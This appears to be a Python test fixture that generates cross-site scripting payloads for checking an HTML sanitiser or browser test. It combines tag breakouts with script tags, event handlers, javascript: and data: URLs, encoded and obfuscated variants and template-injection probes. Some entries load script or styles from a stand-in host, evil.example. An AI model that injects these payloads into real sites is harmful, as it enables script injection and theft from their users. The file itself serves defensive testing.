"""Texts that try to be markup: ways out of where a page puts them, times what they would do there."""

from __future__ import annotations

from itertools import product

DO = "alert(7)"
"""Opens a dialog, which a browser test hears of."""

WAYS_OUT = (
    "",
    '">',
    "'>",
    "--></title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]></svg>",
    "</td></tr></table>",
    "</a></p></li>",
    "</option></select>",
    "&quot;&gt;",
)
ELEMENTS = (
    f"<script>{DO}</script>",
    f"<ScRiPt >{DO}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={DO}>",
    f"<img/src=x/onerror={DO}//",
    f"<svg/onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={DO}></mtext></math>",
    f"<iframe src=javascript:{DO}></iframe>",
    f"<iframe srcdoc='<script>{DO}</script>'></iframe>",
    f"<a href=javascript:{DO}>click</a>",
    f"<a href='java&#9;script:{DO}'>click</a>",
    f"<form action=javascript:{DO}><input type=submit></form>",
    f"<button formaction=javascript:{DO}>x</button>",
    f"<body onload={DO}>",
    f"<details open ontoggle={DO}>x</details>",
    f"<input autofocus onfocus={DO}>",
    f"<video><source onerror={DO}></video>",
    f"<object data=javascript:{DO}></object>",
    f"<embed src=javascript:{DO}>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{DO}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<x-owned>x</x-owned>",
)
ATTRIBUTES = (
    f'" onmouseover="{DO}',
    f"' onmouseover='{DO}",
    f'" autofocus onfocus={DO} x="',
    f"` onclick=`{DO}",
    f'x" style="animation-name:x" onanimationstart="{DO}',
    f"/onpointerenter={DO}/",
    f'"onload={DO} ',
    f"\u00a0onerror={DO}\u00a0",
)
ADDRESSES = (
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}",
    f" javascript:{DO}",
    f"java\tscript:{DO}",
    f"\x01javascript:{DO}",
    f"javascript&colon;{DO}",
    f"&#106;avascript:{DO}",
    f"javascript://evil.example/%0a{DO}",
    "data:text/html,<script>alert(7)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(7)'/>",
    "vbscript:msgbox(7)",
    "//evil.example/",
    "\\\\evil.example\\x",
    "http://evil.example/ onclick=alert(7)",
    'https://evil.example/"onmouseover="alert(7)',
    "https://evil.example/<script>alert(7)</script>",
    "[x](javascript:alert(7))",
    "![x](//evil.example/x.png)",
    "<javascript:alert(7)>",
)
DRESSED = (
    "＜script＞alert(7)＜/script＞",
    "%3Cscript%3Ealert(7)%3C/script%3E",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(7)",
    "\\u003cscript\\u003ealert(7)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(7)",
    "+ADw-script+AD4-alert(7)+ADw-/script+AD4-",
    "{{ 7*7 }}{{ config }}{{ ''.__class__ }}",
    "{% raw %}<script>alert(7)</script>{% endraw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<scr\u200bipt>alert(7)</scr\u200bipt>",
    "<\u202escript>alert(7)</script>",
    "<scr<script>ipt>alert(7)</scr</script>ipt>",
    "<<script>alert(7)//<</script>",
    "<script\x0c>alert(7)</script>",
    "<!--[if IE]><script>alert(7)</script><![endif]-->",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(7)</x:script>",
    "<![CDATA[<script>alert(7)</script>]]>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(7)</script>'>]>&y;",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(7)>'>",
    "<template><script>alert(7)</script></template>",
    "</body></html><script>alert(7)</script>",
)
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *("".join(each) for each in product(WAYS_OUT, ELEMENTS)),
            *ATTRIBUTES,
            *ADDRESSES,
            *DRESSED,
        )
    )
)
